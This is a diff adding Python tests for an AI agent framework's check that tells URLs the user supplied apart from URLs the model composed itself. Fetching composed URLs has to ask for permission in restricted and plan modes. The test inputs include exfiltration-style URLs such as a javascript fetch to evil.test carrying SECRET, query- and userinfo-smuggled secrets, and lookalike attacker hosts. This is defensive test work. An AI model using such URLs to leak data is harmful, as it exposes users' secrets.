@@ -1,0 +1,102 @@
+"""What counts as an address that the model was given, and what as one that it made up."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from quintet.domain.axes import Axes, PermissionProfile, RunControl, WorkMode
+from quintet.domain.grants import Effect
+from quintet.domain.known_addresses import addresses_in, composed, normalised, with_known
+from quintet.domain.toolspec import Touch
+
+GIVEN = "See https://docs.example.com/guide?page=2, and (http://Example.COM:80/a/B#part)."
+KNOWN = addresses_in(GIVEN)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://docs.example.com/guide?page=2",
+        "HTTPS://DOCS.example.com:443/guide?page=2#section",
+        "http://example.com/a/B",
+        "http://EXAMPLE.com:80/a/B#x",
+    ],
+)
+def test_what_was_given_is_known_in_any_spelling_that_leads_there(address: str) -> None:
+    assert composed([address], KNOWN) == ""
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://docs.example.com/guide?page=2&d=SECRET",
+        "https://docs.example.com/guide?page=2/SECRET",
+        "https://docs.example.com/guide",
+        "https://docs.example.com/guide?page=3",
+        "https://docs.example.com/guide/SECRET?page=2",
+        "https://docs.example.com/",
+        "https://SECRET.docs.example.com/guide?page=2",
+        "https://docs.example.com.evil.test/guide?page=2",
+        "https://docs.example.com:8443/guide?page=2",
+        "https://SECRET@docs.example.com/guide?page=2",
+        "https://u:SECRET@docs.example.com/guide?page=2",
+        "http://docs.example.com/guide?page=2",
+        "http://example.com/a/b",
+        "http://example.com//a/B",
+        "http://example.com/a/%42",
+        "http://example.com/a/B/",
+        "http://example.com/x/../a/B",
+        "https://docs.example.com./guide?page=2",
+        "https://docs.example.com/guide?page=2 ?d=SECRET",
+        "//docs.example.com/guide?page=2",
+        "ftp://example.com/a/B",
+        "javascript:fetch('//evil.test/SECRET')",
+        "https://[::1/x",
+        "https://docs.example.com:99999/guide?page=2",
+        "",
+    ],
+)
+def test_whatever_else_is_composed(address: str) -> None:
+    assert composed(["http://example.com/a/B", address], KNOWN) == address or address == ""
+    assert normalised(address) not in KNOWN
+
+
+def test_people_write_addresses_without_http() -> None:
+    known = addresses_in("open example.com/docs, mail me@other.org, and read a.txt", bare=True)
+    assert composed(["https://example.com/docs"], known) == "" == composed(["http://example.com/docs"], known)
+    assert composed(["https://example.com/docs?d=1"], known) and composed(["https://other.org/"], known)
+    assert not addresses_in("open example.com/docs")
+
+
+def test_links_of_a_page_in_the_browser_lead_from_where_it_is() -> None:
+    shown = 'tab 0 · Home · http://site.test/a/b\n[1 link "x" → /form] [2 link "y" → c?d=1] [3 link → https://o.test/]'
+    known = addresses_in(shown)
+    assert {"http://site.test/form", "http://site.test/a/c?d=1", "https://o.test/"} <= known
+    assert "http://site.test/secret" not in known
+
+
+@given(st.text(), st.text(alphabet="abc/?&=.:@#%[]-", max_size=30))
+def test_anything_can_be_looked_through_and_only_what_stands_there_is_found(text: str, more: str) -> None:
+    found = addresses_in(f"{text} https://a.test/{more} {text}")
+    assert all(normalised(one) == one for one in found)
+    assert normalised(f"https://b.test/{more}") not in found or "b.test" in text
+
+
+STRICT = [
+    Axes(WorkMode.PLAN, RunControl.AUTONOMOUS, PermissionProfile.UNRESTRICTED),
+    *(Axes(one, RunControl.AUTONOMOUS, PermissionProfile.RESTRICTED) for one in WorkMode),
+]
+
+
+@pytest.mark.parametrize("axes", STRICT, ids=str)
+def test_composed_ones_ask_at_restricted_and_in_plan(axes: Axes) -> None:
+    fetch = frozenset({Effect.FETCH})
+    assert with_known(Touch(fetch, addresses=("https://evil.test/?d=SECRET",)), KNOWN, axes).asks
+    assert not with_known(Touch(fetch, addresses=("http://example.com/a/B",)), KNOWN, axes).asks
+    assert not with_known(Touch(fetch), KNOWN, axes).asks
+
+
+def test_elsewhere_they_go() -> None:
+    for work_mode in set(WorkMode) - {WorkMode.PLAN}:
+        axes = Axes(work_mode, RunControl.AUTONOMOUS, PermissionProfile.NORMAL)
+        assert not with_known(Touch(frozenset({Effect.FETCH}), addresses=("https://x.test/",)), KNOWN, axes).asks
